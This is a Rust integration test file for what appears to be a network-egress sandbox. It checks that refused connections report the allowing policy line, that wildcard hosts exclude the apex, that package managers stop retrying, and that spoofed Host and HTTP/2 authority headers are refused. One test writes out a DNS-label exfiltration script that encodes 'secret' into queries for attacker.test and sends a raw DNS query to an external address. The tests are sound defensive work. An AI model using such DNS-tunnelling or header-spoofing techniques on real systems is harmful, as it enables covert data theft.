//! What is refused is told with the line that would allow it, does not make programs wait, and leaves nothing outside.

use std::net::{TcpListener, UdpSocket};

use aegis_tests::host;
use aegis_tests::outcome::Ran;

use super::stand::{OPENS, PASSES, SITE, on_stand};

const WEB: &[&str] = &["https://web.test"];

/// The lines that would allow what a run was refused.
fn lines(ran: &Ran) -> Vec<&str> {
    let denials = ran.report["denials"].as_array();
    let denials = denials.unwrap_or_else(|| panic!("{}", ran.told())).iter();
    denials
        .filter_map(|denial| denial["allow"].as_str())
        .collect()
}

fn line(host: &str) -> String {
    format!("capabilities: {{net.outbound: [\"https://{host}\"]}}")
}

/// A download that leads to a content network: what is missing is its name, and that is told.
#[test]
fn a_redirection_to_a_host_that_nobody_named_is_told_with_its_line() {
    on_stand(|stand| {
        let script = "curl -sSL https://web.test/redirect";
        let ran = stand.run(OPENS, WEB, "", script);
        assert!(
            ran.printed().contains("\"host\":\"cdn.test\""),
            "{}",
            ran.told()
        );
        assert_eq!(lines(&ran), [line("cdn.test")], "{}", ran.told());
        assert_eq!(stand.asked().len(), 1);
        // That is the line.
        let ran = stand.run(OPENS, &["https://web.test", "https://cdn.test"], "", script);
        assert!(ran.exits(0).printed().contains("/asset"), "{}", ran.told());
        // The same where what is named passes through.
        let script = "curl -sS -o /dev/null -w '%{http_code}' https://cdn.test/";
        let ran = stand.run(PASSES, WEB, "", script);
        assert_eq!(ran.printed(), "403", "{}", ran.told());
        assert_eq!(lines(&ran), [line("cdn.test")], "{}", ran.told());
    });
}

/// `*.apex.test` is all below the name, and not the name.
#[test]
fn the_apex_is_a_line_of_its_own_beside_the_wildcard() {
    on_stand(|stand| {
        let script = "for host in a.apex.test apex.test; do curl -sS -o /dev/null -w '%{http_code} ' https://$host/; done";
        let ran = stand.run(OPENS, &["https://*.apex.test"], "", script);
        assert_eq!(ran.printed(), "200 403", "{}", ran.told());
        assert_eq!(lines(&ran), [line("apex.test")], "{}", ran.told());
        let both = ["https://*.apex.test", "https://apex.test"];
        let ran = stand.run(OPENS, &both, "", script);
        assert_eq!(ran.printed(), "200 200", "{}", ran.told());
    });
}

/// Programs that try again on whatever fails take the answer of a server for one.
#[test]
fn package_managers_end_at_the_first_refusal() {
    on_stand(|stand| {
        let manifest = stand.workspace.work().join("package.json");
        std::fs::write(&manifest, "{}").expect("written");
        stand.workspace.own(&manifest);
        for script in [
            "npm install --registry https://cdn.test/ --no-audit --no-fund left-pad",
            "python3 -m pip download --disable-pip-version-check --index-url https://cdn.test/simple left-pad",
        ] {
            let ran = stand.run(PASSES, WEB, "", script);
            assert_ne!(ran.output.status.code(), Some(0), "{}", ran.told());
            assert_eq!(lines(&ran), [line("cdn.test")], "{}", ran.told());
            // A connection that is closed they try six times and more, which takes minutes.
            let times = ran.report["denials"][0]["times"].as_u64();
            assert!(times <= Some(3), "{script}: {}", ran.told());
        }
        assert!(stand.asked().is_empty());
    });
}

/// A name is the oldest way out: each query for it would reach a server of its owner's. Here it is answered by the broker, and nobody is asked.
#[test]
fn data_in_the_labels_of_a_name_reaches_no_name_server() {
    on_stand(|stand| {
        let udp = UdpSocket::bind((SITE, 53)).expect("a name server");
        let tcp = TcpListener::bind((SITE, 53)).expect("a name server");
        udp.set_nonblocking(true).expect("a socket");
        tcp.set_nonblocking(true).expect("a socket");
        let resolv = stand.workspace.write(
            "resolv.conf",
            format!("nameserver {SITE}\noptions timeout:1 attempts:1\n"),
        );
        host::bind(&resolv, "/etc/resolv.conf".as_ref());
        let script = r#"
for data in c2VjcmV0 a.b.c.d.e; do
  getent ahosts $data.attacker.test
  curl -sS -m 20 -o /dev/null -o /dev/null -w "%{http_code}\n" http://$data.attacker.test/ https://$data.attacker.test/
done
python3 -c '
import socket
query = bytes.fromhex("123401000001000000000000") + b"\x06secret\x08attacker\x04test\x00\x00\x10\x00\x01"
for server in ("93.184.215.14", "127.0.0.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.sendto(query, (server, 53)); print(len(s.recv(512)) > 0)
'"#;
        let ran = stand.run(OPENS, WEB, "", script);
        let printed = ran.printed();
        assert_eq!(printed.matches("403").count(), 4, "{}", ran.told());
        assert_eq!(printed.matches("True").count(), 2, "{}", ran.told());
        assert!(udp.recv(&mut [0; 512]).is_err(), "{}", ran.told());
        assert!(tcp.accept().is_err(), "{}", ran.told());
        // The same for a name that may be reached, and is not in the hosts file: then it is looked up.
        let policy = "network-egress: [{id: real, hosts: '*', verdict: warn}]";
        stand.run(
            policy,
            &["http://real.test"],
            "",
            "curl -sS -o /dev/null http://real.test/",
        );
        assert!(udp.recv(&mut [0; 512]).is_ok(), "nobody was asked");
    });
}

/// A large host serves many names at one address, and goes by the one in the request.
#[test]
fn the_host_of_a_request_is_the_one_that_was_connected_to() {
    on_stand(|stand| {
        stand.with_http2();
        let named = [
            "https://web.test",
            "https://web.test:8443",
            "https://other.test",
        ];
        let script = r#"
curl -sS -o /dev/null -w '%{http_code}\n' https://web.test/
curl -sS -o /dev/null -w '%{http_code}\n' -H 'Host: other.test' https://web.test/
node -e '
const client = require("http2").connect("https://web.test:8443");
const stream = client.request({":path": "/", ":authority": "other.test"});
stream.on("response", (fields) => console.log(fields[":status"]));
stream.on("end", () => client.close()); stream.resume();
'"#;
        let ran = stand.run(OPENS, &named, "", script);
        assert_eq!(ran.printed(), "200\n403\n403", "{}", ran.told());
        let asked = stand.asked();
        assert_eq!(asked.len(), 1, "{asked:?}");
        // What passes through cannot be looked into: docs/egress.md says so.
        let script = "curl -sS --insecure -o /dev/null -w '%{http_code}' -H 'Host: other.test' https://web.test/";
        let ran = stand.run(PASSES, WEB, "", script);
        assert_eq!(ran.printed(), "200", "{}", ran.told());
        assert_eq!(stand.asked()[0]["headers"]["host"], "other.test");
    });
}
